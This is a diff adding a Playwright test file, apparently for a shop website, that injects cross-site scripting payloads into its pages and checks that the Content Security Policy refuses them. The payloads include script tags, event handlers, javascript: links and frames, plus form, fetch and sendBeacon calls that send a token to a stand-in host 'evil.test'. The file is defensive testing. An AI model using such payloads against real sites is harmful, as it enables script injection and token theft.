@@ -1,0 +1,78 @@
+import { expect, type Page, test } from '@playwright/test';
+import { collectComplaints, waitUntilAlive } from './browser-state.ts';
+
+/** What would be in a page if somebody had found a way to write into it. Each notes its name when it runs. */
+const hostile = `
+  <script>ran.push('a script')</script>
+  <script src="https://evil.test/a.js"></script>
+  <script src="data:text/javascript,ran.push('a script in its own address')"></script>
+  <img src="/nothing.png" onerror="ran.push('a handler')">
+  <svg onload="ran.push('a handler of a drawing')"></svg>
+  <a id="bait" href="javascript:ran.push('a link')">bait</a>
+  <iframe src="data:text/html,<script>parent.ran.push('a frame')</script>"></iframe>
+  <iframe src="https://evil.test/"></iframe>
+  <iframe srcdoc="<script>parent.ran.push('a frame with a document')</script>"></iframe>
+  <object data="https://evil.test/a.swf"></object>
+  <base href="https://evil.test/">
+  <style>body { --stolen: 1 }</style>
+  <form id="form" action="https://evil.test/" method="post"><input name="token" value="x"></form>`;
+
+declare global {
+  interface Window {
+    ran: string[];
+    refused: string[];
+  }
+}
+
+/** Opens a page into which the hostile parts were written on their way, under the policy that the shop sent with it. */
+async function openBroken(page: Page, path: string): Promise<string[]> {
+  // Only what the browser has let through comes here.
+  const sent: string[] = [];
+  await page.route(/evil\.test/, (route) => {
+    sent.push(route.request().url());
+    return route.abort();
+  });
+  await page.addInitScript(() => {
+    window.ran = [];
+    window.refused = [];
+    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.refused.push(effectiveDirective));
+  });
+  await page.route(`**${path}`, async (route) => {
+    const response = await route.fetch();
+    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${hostile}</body>`) });
+  });
+  await page.goto(path);
+  return sent;
+}
+
+for (const path of ['/', '/login', '/carrito'])
+  test(`nothing that is written into ${path} from outside runs, loads or leaves`, async ({ page }) => {
+    const sent = await openBroken(page, path);
+    await page.evaluate(() => {
+      document.querySelector<HTMLAnchorElement>('#bait')?.click();
+      document.querySelector<HTMLFormElement>('#form')?.submit();
+      void fetch('https://evil.test/?token=x').catch(() => {});
+      navigator.sendBeacon('https://evil.test/', 'token');
+      // biome-ignore lint/security/noGlobalEval: the policy must refuse it
+      setTimeout("ran.push('a text as code')");
+    });
+    const refused = await page.evaluate(async () => {
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return [...new Set(window.refused)];
+    });
+    for (const directive of ['script-src-elem', 'script-src-attr', 'frame-src', 'object-src', 'base-uri', 'style-src-elem'])
+      expect(refused).toContain(directive);
+    for (const directive of ['connect-src', 'form-action']) expect(refused).toContain(directive);
+    expect(await page.evaluate(() => window.ran)).toEqual([]);
+    expect(sent).toEqual([]);
+    expect(new URL(page.url()).pathname).toBe(path);
+  });
+
+test('the shop itself needs nothing that its policy refuses', async ({ page }) => {
+  const complaints = collectComplaints(page);
+  for (const path of ['/', '/login', '/carrito', '/favorites', '/CreateUser']) {
+    await page.goto(path);
+    await waitUntilAlive(page);
+  }
+  expect(complaints).toEqual([]);
+});
